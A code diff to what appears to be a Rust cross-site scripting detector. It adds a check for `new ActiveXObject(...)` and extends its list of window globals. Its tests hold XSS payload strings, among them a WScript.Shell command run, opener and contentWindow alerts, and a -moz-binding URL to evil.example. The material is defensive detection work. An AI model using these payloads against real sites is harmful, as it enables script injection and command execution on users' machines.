@@ -738,6 +738,12 @@ const GLOBALS: &[&[u8]] = &[
     b"parent",
     b"globalthis",
     b"frames",
+    // Other windows' global objects: an opener's, a frame's, a document's own (Internet
+    // Explorer's `document.parentWindow`).
+    b"opener",
+    b"contentwindow",
+    b"defaultview",
+    b"parentwindow",
 ];
 
 /// Functions that show a dialog or run a string: an injection's proof or its payload. Also the
@@ -836,6 +842,9 @@ fn script_context(s: &Subject<'_>) -> Option<Hit> {
     if s.gate(gate::DOM) {
         if let Some(at) = find(b, b"fromcharcode").or_else(|| find(b, b".innerhtml")) {
             return Some(Hit::new("xss.dom_sink", at, at + 12));
+        }
+        if let Some(h) = com_object(b) {
+            return Some(h);
         }
     }
     if s.has(class::QUOTE) {
@@ -960,6 +969,20 @@ fn created_element(b: &[u8]) -> Option<Hit> {
         SCRIPT_ELEMENTS
             .contains(&&name[..end])
             .then(|| Hit::new("xss.dom_sink", at, q + 2 + end))
+    })
+}
+
+/// `new ActiveXObject(…)`: script reaching a COM object (`WScript.Shell` runs commands,
+/// `htmlfile` a new document), which only Internet Explorer's script hosts had.
+fn com_object(b: &[u8]) -> Option<Hit> {
+    find_iter(b, b"activexobject").find_map(|at| {
+        let new = b[..at].trim_ascii_end();
+        let open = skip_js_space(b, at + 13);
+        (new.ends_with(b"new")
+            && new.len() < at
+            && !new[..new.len() - 3].last().is_some_and(|c| is_word(*c))
+            && b.get(open) == Some(&b'('))
+            .then(|| Hit::new("xss.dom_sink", new.len() - 3, open + 1))
     })
 }
 
@@ -1292,11 +1315,7 @@ fn bracket_sink(b: &[u8]) -> Option<Hit> {
         if !matches!(b.get(q), Some(b'"' | b'\'' | b'`')) {
             continue;
         }
-        let global_obj = matches!(
-            obj,
-            b"window" | b"self" | b"top" | b"parent" | b"globalthis" | b"frames"
-        );
-        if global_obj && computed_call(b, q) {
+        if GLOBALS.contains(&obj) && computed_call(b, q) {
             return Some(Hit::new("xss.dom_sink", ws, q + 1));
         }
         let ps = q + 1;
@@ -1475,6 +1494,10 @@ mod tests {
             "<p>x</p><meta http-equiv=\"Content-Type\" content=\"text/html\">",
             "(document)[\"cookie\"]",
             "window['alert'](1)",
+            "<if expr=\"new ActiveXObject('htmlfile').parentWindow.alert(2)\"></if>",
+            "new ActiveXObject(\"WScript.Shell\").Run(\"calc\")",
+            "x=opener.alert(1)",
+            "frames[0].contentWindow.confirm`1`",
             "self[/*x*/\"eval\"](name)",
             "style=x:url(javascript:alert(1))",
             "-moz-binding:url(http://evil.example/x.xml#x)",
@@ -1570,6 +1593,8 @@ mod tests {
             "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>Hi</body></html>",
             "<head><meta charset=\"utf-8\"><meta http-equiv=\"X-UA-Compatible\" content=\"IE=edge\"></head>",
             "<b>bold</b> and <i>italic</i>",
+            "Is ActiveXObject (IE only) still needed? No: renew ActiveXObject(s) support never.",
+            "The can opener alerts (1) were resolved",
             "<a href=\"https://example.com/a?b=c\">link</a>",
             // Cut short, but to the page's own path; a quote left open on a plain attribute.
             "<a href=\"/docs/guide",
